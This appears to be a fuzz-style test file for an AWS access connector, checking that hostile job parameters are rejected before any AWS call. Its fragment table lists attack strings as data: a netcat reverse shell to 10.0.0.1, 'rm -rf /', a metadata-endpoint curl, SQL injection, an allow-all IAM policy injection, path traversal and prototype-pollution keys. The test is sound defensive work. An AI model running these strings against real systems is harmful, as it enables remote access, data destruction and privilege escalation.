// Scenario 7b: hostile job params for every job type and access kind. Shell metacharacters,
// policy-document injection, path traversal, huge strings, unicode tricks and
// prototype-pollution keys, placed in every field a control plane fills in, go to a real
// connector process that holds a grant ledger and whose AWS is the simulator. Each must be
// job.rejected `invalid` (or, past 1 MiB, answered FRAME_TOO_LARGE) without one AWS call.
import { generateKeyPairSync } from 'node:crypto';
import fc from 'fast-check';
import { accessParamsSchema } from '../../src/access/params.js';
import { encodeCursor, paramsHash } from '../../src/sync/cursor.js';
import { checkResumeCursor, syncParams } from '../../src/sync/run-sync.js';
import { decodeFrame } from '../../src/protocol/codec.js';
import { ACCESS_KINDS, jobFrame } from '../../src/protocol/messages.js';
import { startAwsSimulator, type AwsSimulator } from '../sim/aws/index.js';
import { demoIntegration } from '../sim/aws/worlds/demo.js';
import { ReferenceControlPlane, type ControlPlaneEvent } from '../sim/control-plane/server.js';
import { ConnectorProcess, connectorEnv } from '../helpers/process.js';
import { report, size } from './report.js';
import { until } from '../helpers/wait.js';

const MiB = 1024 * 1024;
const SEED = 7_070_707;
const PROD = '333333333301';

/** Every fragment holds a character no pattern-checked field allows (but see AWS_ALPHABET). */
const FRAGMENTS: Record<string, string[]> = {
  shell: ['; rm -rf / #', '$(curl -s http://169.254.169.254/latest/meta-data/)', '`id`', '| nc -e /bin/sh 10.0.0.1 4444', '&& reboot', "'; DROP TABLE grants; --", '\n/bin/sh -i', '> /etc/sudoers'],
  policy: ['"}],"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}],"x":[{"y":"', '*', '","Principal":{"AWS":"*"},"Condition":{},"', '${aws:username}', '\\"}'],
  traversal: ['../../../etc/passwd', '/../', '..%2f..%2fetc%2fpasswd', '..\\..\\windows', '/./../admin/'],
  unicode: ['\u202e', '\u0000', '\u200b', '\ufeff', '\ud800', '\r\n', '\u2028', '\u001b[2J'],
  homoglyph: ['\u0430', '\uff13', '\u0663', '\u0301', '\u2215'],
};
const POSITIONS = ['replace', 'prefix', 'suffix', 'middle'] as const;
type Position = (typeof POSITIONS)[number];
/** CI sweeps the ends; the long run every position (the random cases take any position in both). */
const SWEPT = size<readonly Position[]>(['replace', 'suffix'], POSITIONS);
/** Far past every field's bound (16 KiB at most), inside one frame; the long run goes near the 1 MiB frame limit. */
const HUGE = size(200_000, 1_000_000);

function place(valid: string, fragment: string, at: Position): string {
  if (at === 'replace') return fragment;
  if (at === 'prefix') return fragment + valid;
  if (at === 'suffix') return valid + fragment;
  const m = Math.floor(valid.length / 2);
  return valid.slice(0, m) + fragment + valid.slice(m);
}

type Json = string | number | boolean | null | Json[] | { [k: string]: Json };
/** Paths to every string or number leaf (array elements included). */
function leaves(v: Json, path: Array<string | number> = []): Array<Array<string | number>> {
  if (typeof v === 'string' || typeof v === 'number') return [path];
  if (Array.isArray(v)) return v.flatMap((x, i) => leaves(x, [...path, i]));
  if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => leaves(x, [...path, k]));
  return [];
}
function withLeaf(v: Json, path: ReadonlyArray<string | number>, value: Json): Json {
  const copy = structuredClone(v);
  let at = copy as Record<string | number, Json>;
  for (const k of path.slice(0, -1)) at = at[k] as Record<string | number, Json>;
  at[path[path.length - 1]!] = value;
  return copy;
}
const leafAt = (v: Json, path: ReadonlyArray<string | number>) => path.reduce<Json>((o, k) => (o as Record<string | number, Json>)[k]!, v);

function sshKey(): string {
  const field = (b: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, b.length]), b]);
  const raw = generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32);
  return `ssh-ed25519 ${Buffer.concat([field(Buffer.from('ssh-ed25519')), field(raw)]).toString('base64')}`;
}

let sim: AwsSimulator;
let cp: ReferenceControlPlane;
let c: ConnectorProcess;
const answers = new Map<string, Record<string, unknown>>();
const errors: Array<Record<string, unknown>> = [];

/** A valid request for each access kind, from the demo world. */
function bases(): Record<string, Json> {
  const sso = sim.world.sso!;
  const user = [...sso.users.values()].find((u) => u.UserName === 'erin@example.com')!.UserId;
  const person = { type: 'user', id: user, userName: 'erin@example.com', email: 'erin@example.com' };
  const group = [...sso.groups.values()][0]!.GroupId;
  const ps = [...sso.permissionSets.values()].find((p) => p.name === 'ReadOnly')!.arn;
  const instance = [...sim.world.accounts.get(PROD)!.ssm.get('us-east-1')!.instances.values()][0]!.id;
  const expiresAt = new Date(Date.now() + 3_600_000).toISOString();
  const req = (grantId: string, accessKind: string, principal: Json, target: Json): Json => ({ grantId, accessKind, principal, target, expiresAt });
  const iam = (type: string, name: string) => `arn:aws:iam::${PROD}:${type}/${name}`;
  return {
    'sso.accountAssignment': req('h-1', 'sso.accountAssignment', person, { accountId: PROD, permissionSetArn: ps }),
    'sso.groupMembership': req('h-2', 'sso.groupMembership', person, { groupId: group }),
    'sso.user': req('h-9', 'sso.user', { type: 'user', id: 'zoe@example.com' }, { displayName: 'Zoe Zhang', givenName: 'Zoe', familyName: 'Zhang', email: 'zoe@example.com' }),
    'iam.roleAssume': req('h-3', 'iam.roleAssume', { type: 'role', id: iam('role', 'lambda-exec') }, { roleArn: iam('role', 'app-deployer') }),
    'iam.groupMembership': req('h-4', 'iam.groupMembership', { type: 'user', id: iam('user', 'auditor') }, { groupName: 'Operators' }),
    'iam.permissionsBoundary': req('h-5', 'iam.permissionsBoundary', { type: 'role', id: iam('role', 'lambda-exec') }, { boundaryPolicyArn: iam('policy', 'AccessConnectorBoundary') }),
    'iam.policyAttachment': req('h-8', 'iam.policyAttachment', { type: 'group', id: iam('group', 'Operators') }, { policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' }),
    'ec2.ssmSession': req('h-6', 'ec2.ssmSession', person, { accountId: PROD, region: 'us-east-1', instanceIds: [instance] }),
    'ec2.localUser': req('h-7', 'ec2.localUser', person, { accountId: PROD, region: 'us-east-1', instanceIds: [instance], sshPublicKey: sshKey() }),
  };
}
const integration = (): Json => ({
  ...demoIntegration(),
  profile: 'connector',
  memberRoleName: 'AccessConnectorMember',
  regions: ['us-east-1'],
  excludeAccountIds: ['444444444405'],
  excludeOrganizationalUnitIds: ['ou-abcd-12345678'],
  resourceTypes: ['sso'],
});

/**
 * Fields the protocol leaves free-form, so only length bounds apply to them: a person's
 * display userName/email for kinds that never send them to AWS as a name, and ec2.localUser's
 * principal.id, which only ever leaves the connector as a digest (docs/access.md). Printable
 * text (non-Latin letters included) is legal there; control, format and line-separator
 * characters and over-long values are still refused.
 */
function freeForm(kind: string, path: ReadonlyArray<string | number>): boolean {
  const p = path.join('.');
  // sso.user's display, given and family names are a person's names: stored as attribute
  // values, never used as an identifier, a path or a policy.
  const personName = kind === 'sso.user' && ['target.displayName', 'target.givenName', 'target.familyName'].includes(p);
  return (p === 'principal.userName' && kind !== 'ec2.localUser') || p === 'principal.email' || (p === 'principal.id' && kind === 'ec2.localUser') || personName;
}
const PRINTABLE_FAMILIES = new Set(['shell', 'policy', 'traversal', 'homoglyph']);
/**
 * AWS's own alphabet for an opaque field: a value inside it is legal whatever it looks like
 * (an ExternalId may hold `/` and `.`; it is an AssumeRole parameter, never a path). Such
 * values are counted, not sent: sent, they would rightly run.
 */
const AWS_ALPHABET: Record<string, RegExp> = { 'integration.externalId': /^[\w+=,.@:/-]{2,1224}$/ };
let legalByAws = 0;

interface Hostile {
  jobType: string;
  kind: string;
  field: string;
  family: string;
  jobId: string;
  text: string;
  fragment?: string;
}
let n = 0;
function frame(jobType: string, params: Json | string, integ: Json = integration()): { jobId: string; text: string } {
  const jobId = `hp-${n++}`;
  const head = JSON.stringify({ type: 'job', id: `f-${jobId}`, jobId, jobType, attempt: 1, notAfter: new Date(Date.now() + 600_000).toISOString() });
  // Params may come as JSON text, to carry own "__proto__" keys that no object literal can.
  return { jobId, text: `${head.slice(0, -1)},"integration":${JSON.stringify(integ)},"params":${typeof params === 'string' ? params : JSON.stringify(params)}}` };
}

/** A valid sync with every optional field set, its cursor bound to these params. */
function syncBase(): Json {
  const p = { mode: 'delta', since: '2024-01-01T00:00:00Z', accountIds: [PROD] };
  return { ...p, resumeFrom: encodeCursor('int-demo', paramsHash(p), 'fingerprint', [0, 1, 2]) };
}
/** Free text of the protocol (names, a note shown to requesters, a link): bounded, not patterned. */
const FREE_TEXT_INTEGRATION = new Set(['id', 'name', 'customAccessDetails', 'ssoPortalUrl']);

/** The fixed matrix: every family × fragment × position in every field of every kind, job type and integration. */
function matrix(): Hostile[] {
  const out: Hostile[] = [];
  const add = (h: Omit<Hostile, 'jobId' | 'text'>, params: Json | string, integ: Json) => out.push({ ...h, ...frame(h.jobType, params, integ) });
  /** Each fragment at each position, then a huge value, in each field of `base` (the params or the integration). */
  const sweep = (jobType: string, kind: string, into: 'params' | 'integration', base: Json, other: Json, skip: (p: Array<string | number>) => boolean) => {
    for (const path of leaves(base).filter((p) => !skip(p))) {
      const valid = String(leafAt(base, path));
      const field = `${into}.${path.join('.')}`;
      const put = (h: Omit<Hostile, 'jobId' | 'text' | 'jobType' | 'kind' | 'field'>, v: string) => {
        if (AWS_ALPHABET[field]?.test(v)) return void legalByAws++;
        const m = withLeaf(base, path, v);
        add({ jobType, kind, field, ...h }, into === 'params' ? m : other, into === 'params' ? other : m);
      };
      for (const [family, fragments] of Object.entries(FRAGMENTS)) {
        if (into === 'params' && freeForm(kind, path) && PRINTABLE_FAMILIES.has(family)) continue;
        for (const fragment of fragments) for (const at of SWEPT) put({ family, fragment }, place(valid, fragment, at));
      }
      // Huge, but inside one frame: refused by length.
      put({ family: 'huge' }, place(valid, 'A'.repeat(HUGE), 'suffix'));
    }
  };
  const kinds = bases();
  const integ = integration();
  for (const jobType of ['grant', 'revoke']) {
    for (const [kind, base] of Object.entries(kinds)) {
      sweep(jobType, kind, 'params', base, integ, () => false);
      // Prototype-pollution keys: fields smuggled through __proto__, and the keys themselves.
      const text = JSON.stringify(base);
      const part = (k: 'principal' | 'target') => JSON.stringify((base as Record<string, Json>)[k]);
      const proto = (field: string, json: string) => add({ jobType, kind, field, family: 'prototype' }, json, integ);
      proto('params', `{"__proto__":${text}}`);
      proto('params', `{"constructor":{"prototype":${text}}}`);
      proto('params.principal', text.replace(part('principal'), `{"__proto__":${part('principal')}}`));
      proto('params.target', text.replace(part('target'), `{"__proto__":${part('target')}}`));
      proto('params.principal', text.replace(part('principal'), `${part('principal').slice(0, -1)},"__proto__":{"type":"role","polluted":true}}`));
      proto('params.target', text.replace(part('target'), `${part('target').slice(0, -1)},"constructor":{"prototype":{"polluted":true}}}`));
      proto('params.target', text.replace(part('target'), `${part('target').slice(0, -1)},"prototype":{"polluted":true}}`));
    }
  }
  const paramsOf: Record<string, Json> = { grant: kinds['sso.accountAssignment']!, revoke: kinds['sso.accountAssignment']!, sync: syncBase(), check: { sampleAccounts: 3 } };
  for (const [jobType, params] of Object.entries(paramsOf)) {
    sweep(jobType, 'integration', 'integration', integ, params, (p) => FREE_TEXT_INTEGRATION.has(String(p[0])));
    if (jobType === 'sync' || jobType === 'check') sweep(jobType, jobType, 'params', params, integ, () => false);
    // Names made of dots read as path traversal downstream, however legal their characters.
    const role = (name: string) => `arn:aws:iam::111111111111:role/${name}`;
    for (const [field, value] of [
      ['memberRoleName', '..'], ['memberRoleName', '.'], ['roleArn', role('..')], ['roleArn', role('x/../AccessConnectorManagement')],
      ['roleArn', role('./AccessConnectorManagement')], ['roleArn', role('x//AccessConnectorManagement')], ['roleArn', role('AccessConnectorManagement/')], ['roleArn', role('R'.repeat(65))],
    ]) add({ jobType, kind: 'integration', field: `integration.${field!}`, family: 'traversal', fragment: value! }, params, { ...(integ as Record<string, Json>), [field!]: value! });
  }
  return out;
}

/** Random hostile text (at least one forbidden character) at a random place in a random field. */
function randomCases(count: number): Hostile[] {
  const kinds = bases();
  const arb = fc.record({
    jobType: fc.constantFrom('grant', 'revoke'),
    kind: fc.constantFrom(...ACCESS_KINDS),
    pick: fc.nat(),
    at: fc.constantFrom(...POSITIONS),
    fragment: fc.tuple(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom(...Object.values(FRAGMENTS).flat()), fc.string({ unit: 'binary', maxLength: 20 })).map((p) => p.join('')),
  });
  return fc.sample(arb, { numRuns: count, seed: SEED }).flatMap(({ jobType, kind, pick, at, fragment }) => {
    const base = kinds[kind]!;
    const paths = leaves(base).filter((p) => !freeForm(kind, p));
    const path = paths[pick % paths.length]!;
    const v = withLeaf(base, path, place(leafAt(base, path) as string, fragment, at));
    return [{ jobType, kind, field: `params.${path.join('.')}`, family: 'random', ...frame(jobType, v) }];
  });
}

beforeAll(async () => {
  sim = await startAwsSimulator({ world: 'demo', quotas: false, sso: { assignmentDelayMs: 50 } });
  cp = await ReferenceControlPlane.start({
    onEvent: (e: ControlPlaneEvent) => {
      if (e.kind !== 'frame' || e.direction !== 'in' || !e.frame) return;
      if (e.frame['type'] === 'error') errors.push(e.frame);
      else if (typeof e.frame['jobId'] === 'string' && ['job.rejected', 'job.accepted'].includes(String(e.frame['type']))) answers.set(e.frame['jobId'], e.frame);
    },
  });
  c = new ConnectorProcess({ ...connectorEnv(cp.url, { LOG_LEVEL: 'info', LEDGER_TABLE: 'access-connector-ledger', GRANT_SWEEP_INTERVAL_SECONDS: '3600' }), ...sim.env });
  await cp.waitForSession(15_000);
});
afterAll(async () => {
  await c.stop();
  await cp.close();
  await sim.close();
});

test('hostile params in every field of every job type and access kind: job.rejected invalid, no AWS call, nothing echoed', async () => {
  const started = Date.now();
  const kinds = bases();
  // The bases are valid: what rejects each case is the hostile value alone.
  for (const [kind, base] of Object.entries(kinds)) expect({ kind, ok: accessParamsSchema.safeParse(base).success }).toEqual({ kind, ok: true });
  expect(jobFrame.safeParse(JSON.parse(frame('check', {}).text)).success).toBe(true);
  const sync = syncParams.parse(syncBase());
  expect(checkResumeCursor('int-demo', sync)).toBeUndefined();

  const cases = [...matrix(), ...randomCases(size(2_000, 50_000))];
  // Past one frame: the frame is refused whole.
  const oversized = Object.keys(kinds).map((kind) => frame('grant', withLeaf(kinds[kind]!, ['principal', 'id'], 'A'.repeat(3 * MiB))));

  // In process, the same decode and parse path: nothing reaches Object.prototype.
  const protoKeys = Object.getOwnPropertyNames(Object.prototype).sort();
  for (const h of cases.filter((x) => x.family === 'prototype')) {
    const d = decodeFrame(Buffer.from(h.text), false);
    if (d.ok) accessParamsSchema.safeParse(jobFrame.safeParse(d.raw).data?.params);
  }
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(protoKeys);
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();

  // The start-up ledger sweep must be over before the count is taken. An idle pass (the
  // ledger is empty here) reads the ledger with two Scans, its grants and then its access
  // records, one page each, and makes no other AWS call; so the second Scan ends it. "No
  // call for a second" guessed the same thing from a quiet period a loaded machine may break.
  await until(() => (sim.stats.snapshot().byOperation['dynamodb:Scan']?.calls ?? 0) >= 2, 30_000, 'the start-up sweep\'s two ledger Scans');
  const before = sim.stats.snapshot().total.calls;
  for (const h of cases) cp.sendRaw(h.text);
  for (const o of oversized) cp.sendRaw(o.text);
  const deadline = Date.now() + size(120_000, 1_200_000);
  while ((cases.some((h) => !answers.has(h.jobId)) || errors.length < oversized.length) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  await new Promise((r) => setTimeout(r, 500));

  const wrong = cases.filter((h) => answers.get(h.jobId)?.['reason'] !== 'invalid');
  const got = (h: Hostile) => answers.get(h.jobId)?.['reason'] ?? answers.get(h.jobId)?.['type'] ?? 'no answer';
  expect([...new Set(wrong.map((h) => `${h.jobType} ${h.kind} ${h.field} ${h.family} ${JSON.stringify(h.fragment ?? '')} → ${String(got(h))}`))].slice(0, 40)).toEqual([]);
  // The rejection names the field, never the value.
  const echoed = cases.filter((h) => h.fragment && h.fragment.length >= 4 && String(answers.get(h.jobId)?.['message']).includes(h.fragment));
  expect(echoed.map((h) => ({ field: h.field, fragment: h.fragment, message: answers.get(h.jobId)?.['message'] })).slice(0, 5)).toEqual([]);
  expect(errors.map((e) => e['code'])).toEqual(oversized.map(() => 'FRAME_TOO_LARGE'));
  for (const o of oversized) expect(answers.has(o.jobId)).toBe(false);
  const after = sim.stats.snapshot().total.calls;
  expect(after).toBe(before);

  const health = await c.healthUrl();
  expect(c.child.exitCode).toBeNull();
  expect((await fetch(`${health}/healthz`)).status).toBe(200);
  const metrics = await (await fetch(`${health}/metrics`)).text();
  expect(metrics.split('\n').filter((l) => l.startsWith('access_connector_jobs_received_total{') && l.includes('decision="accepted"'))).toEqual([]);

  // Control: the same connector runs a valid job, so "no AWS call" above is the admission's doing.
  const ok = cp.sendJob({ jobType: 'grant', integration: demoIntegration(), params: kinds['sso.accountAssignment'] as Record<string, unknown> });
  expect((await cp.waitForResult(ok.jobId, 30_000)).status).toBe('succeeded');
  expect(sim.stats.snapshot().total.calls).toBeGreaterThan(after);
  expect(cp.violations).toEqual([]);

  const count = (key: (h: Hostile) => string) => cases.reduce<Record<string, number>>((m, h) => ({ ...m, [key(h)]: (m[key(h)] ?? 0) + 1 }), {});
  report('hostile-params', {
    seed: SEED,
    cases: cases.length,
    rejectedInvalid: cases.length - wrong.length,
    notSentLegalByAwsAlphabet: legalByAws,
    oversizedFrames: oversized.length,
    byJobType: count((h) => h.jobType),
    byKind: count((h) => h.kind),
    byFamily: count((h) => h.family),
    fieldsCovered: new Set(cases.map((h) => `${h.kind}:${h.field}`)).size,
    awsCallsDuringCases: after - before,
    bytesSent: cases.reduce((s, h) => s + h.text.length, 0) + oversized.reduce((s, o) => s + o.text.length, 0),
    durationMs: Date.now() - started,
  });
}, size(180_000, 1_800_000));
